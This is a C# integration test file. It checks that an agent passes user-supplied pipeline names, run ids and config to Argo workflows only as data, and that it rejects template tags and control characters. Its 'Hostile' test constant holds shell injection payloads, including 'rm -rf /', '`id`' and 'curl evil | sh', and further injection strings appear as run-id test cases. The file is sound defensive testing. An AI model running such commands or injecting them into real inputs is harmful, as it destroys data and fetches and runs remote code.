using Agent.Core.Execution;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Agent.Core.Protocol;
using Agent.IntegrationTests.ControlPlane;
using Agent.IntegrationTests.Infrastructure;
using Agent.Sandbox.ControlPlane.Api;

namespace Agent.IntegrationTests.Abuse;

/// <summary>
/// Shell metacharacters, env-var syntax, newlines, quotes and Argo template syntax in the pipeline FQN, name, run id and
/// config reach Argo only as data: the command is a fixed exec array (no shell), the config is the <c>config</c> env
/// value byte for byte, the workflow name and labels are valid and derived (hashed or sanitized), and user text lands
/// only in the env values and annotations that carry it. Argo template tags (<c>{{…}}</c>), which Argo would replace
/// inside those env values and cannot escape, are refused with 400 naming the field, before anything reaches Argo.
/// </summary>
public sealed partial class InjectionTests
{
    private const string Hostile = "$(rm -rf /) `id` ${HOME} $HOME; echo pwned && curl evil | sh\n'\"\\ {workflow.name} %{x} %s \u00e9";

    private static readonly string[] ContainerTemplates = ["ingestion", "exit-handler"];

    [Fact]
    public async Task PipelineRun_HostileNamesRunIdAndConfig_ReachArgoOnlyAsDataInAFixedExecCommand()
    {
        await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection"));
        var fqn = "svc.\"db;" + Hostile + "\".pipe " + Hostile;
        var name = "pipe " + Hostile;
        var runId = Guid.NewGuid().ToString();
        var config = "source:\r\n  type: mysql\n  query: \"" + Hostile + "\"\n\tpassword: secret:x\n# " + Hostile + "\n";

        var answer = ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(
            rig.Agent.AgentId,
            MessageTypes.PipelineRun,
            RequestPayloads.PipelineRun(fqn, name: name, config: JsonSerializer.SerializeToElement(config), runId: runId),
            rig.Cancellation));

        Assert.True(answer.Ok, $"{answer.Code} {answer.Reason}");
        var workflow = Assert.Single(rig.Emulator.ListWorkflows(AgentRig.Namespace));
        var templates = workflow["spec"]!["templates"]!.AsArray().Select(t => t!.AsObject()).ToList();
        Assert.Equal(ContainerTemplates, templates.Select(t => (string?)t["name"]));
        foreach (var template in templates)
        {
            // No script, no args, no shell: the command is the agent's own exec array.
            Assert.Null(template["script"]);
            var container = template["container"]!.AsObject();
            Assert.Null(container["args"]);
            var command = container["command"]!.AsArray().Select(c => (string?)c).ToList();
            Assert.Equal((string?)template["name"] == "ingestion" ? ["python", "main.py"] : ["python", "exit_handler.py"], command);
            // As the process receives them: the kubelet expands $(…) and $$ in env values, which the agent escapes.
            var env = KubeletExpansion.ReceivedEnv(container);
            Assert.Equal(config, env["config"]);
            Assert.Equal(fqn, env["ingestionPipelineFQN"]);
            Assert.Equal(runId, env["pipelineRunId"]);
        }

        var metadata = workflow["metadata"]!.AsObject();
        var workflowName = (string)metadata["name"]!;
        Assert.Matches(DnsLabel(), workflowName);
        Assert.True(workflowName.Length <= 63, workflowName);
        Assert.Equal("om-pipe-rm-rf-id-home-h-" + runId.Replace("-", "", StringComparison.Ordinal), workflowName);
        var labels = metadata["labels"]!.AsObject().Concat(workflow["spec"]!["podMetadata"]!["labels"]!.AsObject()).ToList();
        Assert.All(labels, label => Assert.True(LabelValues.IsValidLabelValue((string)label.Value!), $"{label.Key}={label.Value}"));
        Assert.Equal(fqn, (string?)metadata["annotations"]![WorkflowLabels.PipelineFqnAnnotation]);
        Assert.Equal(runId, (string?)metadata["annotations"]![WorkflowLabels.RunIdAnnotation]);

        // User text appears only where it is data: two env values (config, FQN) of the two containers, and the annotations.
        var userTextAt = StringLeaves(workflow, "$").Where(leaf => leaf.Value.Contains("{workflow.name}", StringComparison.Ordinal)).Select(leaf => leaf.Path).ToList();
        Assert.All(userTextAt, path => Assert.Matches(@"^\$\.(spec\.templates\[[01]\]\.container\.env\[[0-2]\]\.value|metadata\.annotations\.[^.]+)$", path));
        Assert.Equal(2 * ContainerTemplates.Length, userTextAt.Count(path => path.StartsWith("$.spec", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("run\n$(id)")]
    [InlineData("run\u0000`id`")]
    [InlineData("run\r\n{workflow.name}")]
    public async Task PipelineRun_RunIdWithControlCharacters_Answered400AndCreatesNoWorkflow(string runId)
    {
        await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection-run-id"));

        var answer = ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(
            rig.Agent.AgentId, MessageTypes.PipelineRun, RequestPayloads.PipelineRun(AgentRig.PipelineFqn, runId: runId), rig.Cancellation));

        Assert.Equal(400, answer.Code);
        Assert.Contains("runId", answer.Reason, StringComparison.Ordinal);
        Assert.Empty(rig.Emulator.ListWorkflows());
    }

    [Theory]
    [InlineData("pipeline.fullyQualifiedName")]
    [InlineData("runId")]
    [InlineData("config")]
    public async Task PipelineRun_ArgoTemplateTagInUserText_Answered400NamingTheFieldAndCreatesNoWorkflow(string field)
    {
        await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection-tag"));
        const string Tag = "{{=sprig.trim(workflow.name)}}";
        var payload = RequestPayloads.PipelineRun(
            field == "pipeline.fullyQualifiedName" ? "svc." + Tag : AgentRig.PipelineFqn,
            config: field == "config" ? JsonSerializer.SerializeToElement("source:\n  query: " + Tag) : null,
            runId: field == "runId" ? "run-" + Tag : null);

        var answer = ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(
            rig.Agent.AgentId, MessageTypes.PipelineRun, payload, rig.Cancellation));

        Assert.Equal(400, answer.Code);
        Assert.StartsWith($"payload field '{field}' contains '{{{{'", answer.Reason, StringComparison.Ordinal);
        Assert.Empty(rig.Emulator.ListWorkflows());
    }

    private static IEnumerable<(string Path, string Value)> StringLeaves(JsonNode? node, string path) => node switch
    {
        JsonObject obj => obj.SelectMany(pair => StringLeaves(pair.Value, $"{path}.{pair.Key}")),
        JsonArray array => array.SelectMany((item, index) => StringLeaves(item, $"{path}[{index}]")),
        JsonValue value when value.TryGetValue<string>(out var text) => [(path, text)],
        _ => [],
    };

    [GeneratedRegex("^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")]
    private static partial Regex DnsLabel();
}
